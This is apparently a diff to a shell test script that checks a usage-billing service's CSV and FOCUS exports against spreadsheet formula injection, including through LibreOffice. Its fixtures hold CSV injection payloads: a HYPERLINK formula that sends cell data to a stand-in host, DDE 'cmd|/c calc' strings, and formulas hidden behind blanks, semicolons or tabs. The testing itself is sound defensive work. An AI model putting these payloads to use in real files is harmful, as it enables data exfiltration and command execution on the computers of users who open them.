@@ -21,6 +21,9 @@ CONF
 names=('=HYPERLINK("http://evil.example/?"&A1,"open")' '@SUM(1+1)*cmd|'"'"'/c calc'"'"'!A0' '+1+1' '-2+3'
     $'\t=1+1' $'\r=1+1')
 what=("=" "@" "+" "-" "tab" "CR")
+# each as a CSV reader gets it: a quote before it, and one after the tab or
+# CR too, where a reader splitting on tabs or lines starts a cell (csv.h)
+texts=("'${names[0]}" "'${names[1]}" "'${names[2]}" "'${names[3]}" $'\'\t\'=1+1' $'\'\r\'=1+1')
 json() { python3 -c 'import json, sys; print(json.dumps(sys.argv[1]))' "$1"; }
 for m in 1 2 3 4 5 6; do
     printf 'x\t{"v":1,"source":"x","seq":%d,"account":"ns-alpha","cluster":"c","site":"s","model":"H800","vendor":"nvidia","job":"train","gpu_ms":3600000,"start":"2026-0%d-10T02:00:00Z","end":"2026-0%d-10T03:00:00Z"}\n' \
@@ -64,7 +67,7 @@ job_at() { python3 -c 'import csv, sys
 print("".join(r["job"] for r in csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8"))
               if r["time"].endswith(sys.argv[2])), end="")' "$TMP/usage.csv" "$1"; }
 for i in 0 1 2 3 4 5; do
-    check_eq "usage CSV: a job name beginning with ${what[i]} is text" "'${names[i]}" \
+    check_eq "usage CSV: a job name beginning with ${what[i]} is text" "${texts[i]}" \
         "$(job_at "$(printf T%02d:00 $((8 + i)))")"
 done
 check_eq "usage CSV: each hostile cell is quoted, its quote inside" 6 "$(grep -c "^[^,]*,\"'" "$TMP/usage.csv")"
@@ -72,10 +75,46 @@ check_eq "usage CSV: times and quantities as they were" \
     "2026-01-11T08:00 3600000|2026-01-11T13:00 3600000" \
     "$(cell "$TMP/usage.csv" 0 time | cut -c1-16) $(cell "$TMP/usage.csv" 0 quantity)|$(cell "$TMP/usage.csv" 5 time | cut -c1-16) $(cell "$TMP/usage.csv" 5 quantity)"
 
+# A formula behind blanks or behind a ';' (found with LibreOffice 7.4: its
+# "Trim spaces" evaluates an unquoted " =1+1", and with ';' as separator
+# an unquoted "x;=1+1" opens a cell holding a formula). January 12th.
+hidden=(' =HYPERLINK("http://evil.example/","open")' 'x;=cmd|'"'"' /C calc'"'"'!A0' $'a\t=1+1')
+for i in 0 1 2; do
+    echo "INSERT INTO usage_hourly (account, hour, meter, model, vendor, site, cluster, job, quantity,
+                                    events, first_ingest, last_ingest)
+          VALUES ('ns-alpha', '2026-01-12T0$i:00:00Z', 'gpu_ms', 'H800', 'nvidia', 's', 'c', :'job',
+                  3600000, 1, now(), now())" | pg -v job="${hidden[i]}"
+done
+curl -s -H "Authorization: Bearer $KA" \
+    "$U/v1/usage?from=2026-01-12&to=2026-01-12&group_by=hour,job&format=csv" -o "$TMP/hidden.csv"
+check_eq "usage CSV: a formula behind a blank is text, its blank kept" \
+    "'${hidden[0]}" "$(cell "$TMP/hidden.csv" 0 job)"
+check_eq "usage CSV: a formula after a ';' or a tab gets its quote too" \
+    "x;'=cmd|' /C calc'!A0|a"$'\t'"'=1+1" \
+    "$(cell "$TMP/hidden.csv" 1 job)|$(cell "$TMP/hidden.csv" 2 job)"
+check_eq "usage CSV: all three quoted, so no reader splits or trims them" 3 \
+    "$(grep -c '^[^,]*,"' "$TMP/hidden.csv")"
+# The same file as LibreOffice opens it with ',', ';' or tab as separator,
+# spaces trimmed and formulas evaluated: no cell holds a formula.
+if command -v soffice >/dev/null; then
+    for sep in 44 59 9; do
+        rm -f "$TMP/hidden.ods"
+        (cd "$TMP" && HOME=$TMP timeout 300 soffice --headless \
+            --infilter="CSV:$sep,34,76,1,,1033,false,true,false,false,true,-1,true" \
+            --convert-to ods hidden.csv >/dev/null 2>&1)
+        check_eq "LibreOffice (separator $sep) evaluates no cell of the usage CSV" "0 formulas" \
+            "$(python3 -c 'import sys, zipfile
+xml = zipfile.ZipFile(sys.argv[1]).read("content.xml").decode()
+print(xml.count("table:formula="), "formulas")' "$TMP/hidden.ods" 2>&1)"
+    done
+else
+    echo "ok - LibreOffice evaluates no cell of the usage CSV # SKIP soffice not installed"
+fi
+
 # FOCUS: BillingAccountName, from `export focus` and GET /v1/focus alike.
 for m in 1 2 3 4 5 6; do
     "$GM" export focus --period 2026-0$m --output "$TMP/focus$m.csv"
-    check_eq "FOCUS: a customer name beginning with ${what[m - 1]} is text" "'${names[m - 1]}" \
+    check_eq "FOCUS: a customer name beginning with ${what[m - 1]} is text" "${texts[m - 1]}" \
         "$(cell "$TMP/focus$m.csv" 0 BillingAccountName)"
 done
 KF=$("$GM" customer key create --finance 2>/dev/null)
